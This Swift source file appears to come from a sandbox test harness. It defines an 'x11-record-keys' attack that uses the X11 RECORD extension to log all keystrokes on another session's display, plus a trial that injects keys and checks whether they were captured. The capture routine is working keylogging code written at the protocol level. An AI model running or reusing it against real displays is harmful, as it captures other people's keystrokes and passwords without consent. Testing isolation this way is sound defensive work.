import Foundation
import Glibc

extension Attack {
    /// The extension that records every client's input, with no window and no focus.
    static let recordKeys = Attack(
        "x11-record-keys", .display, .otherDisplay, "Records the keys of another session's display with RECORD",
        control: .withoutSandbox
    ) { attempt throws(AttackFault) in
        guard let wire = try attempt.otherDisplay() else { return }
        try wire.setProperty(wire.root, "DESKHAND_RECORDING", Array(try attempt["mark"].utf8))
        for key in try wire.recordedKeys(seconds: 3) { attempt.take(word: "key \(key)") }
        attempt.note("recorded", 0)
    } host: { trial in
        let wire = try await trial.other.wire()
        let key = UInt8.random(in: 24...33)
        async let report = trial.attempt(trial.other.stolen.merging(["mark": trial.secret]) { $1 })
        // Only a guest that was let in says so on the display.
        let isRecording = await trial.eventually(within: .seconds(2)) {
            (try? wire.property(wire.root, "DESKHAND_RECORDING")).map { !$0.isEmpty } ?? false
        }
        for _ in 0..<(isRecording ? 20 : 0) {
            try wire.fake(2, key)
            try wire.fake(3, key)
            try await Task.sleep(for: .milliseconds(50))
        }
        let gained = try await report
        return trial.judge(gained, succeeded: gained.loot.contains("key \(key)"), "key \(key) was recorded")
    }
}

extension XWire {
    /// The numbers of the keys that go down within some seconds, of all clients (Record Extension Protocol, version 1.13).
    fileprivate func recordedKeys(seconds: Int) throws(AttackFault) -> Set<UInt8> {
        let code = try requestCode(of: "RECORD")
        let context = newResource()
        let one = XWire.bytes(UInt32(1))
        let allClients = XWire.bytes(UInt32(3))
        // A range of nothing but device events 2 to 3, KeyPress and KeyRelease.
        var range = [UInt8](repeating: 0, count: 24)
        range[18] = 2
        range[19] = 3
        try send(code, 1, XWire.bytes(context) + [0, 0, 0, 0] + one + one + allClients + range)
        try synchronise()
        var keys: Set<UInt8> = []
        let deadline = ContinuousClock.now + .seconds(seconds)
        try send(code, 5, XWire.bytes(context))
        while ContinuousClock.now < deadline, let reply = try? packet() {
            // The first reply is the start of data; those with category 0 hold events.
            guard reply[0] == 1, reply[1] == 0, reply.count >= 34, reply[32] & 0x7f == 2 else { continue }
            keys.insert(reply[33])
        }
        return keys
    }
}
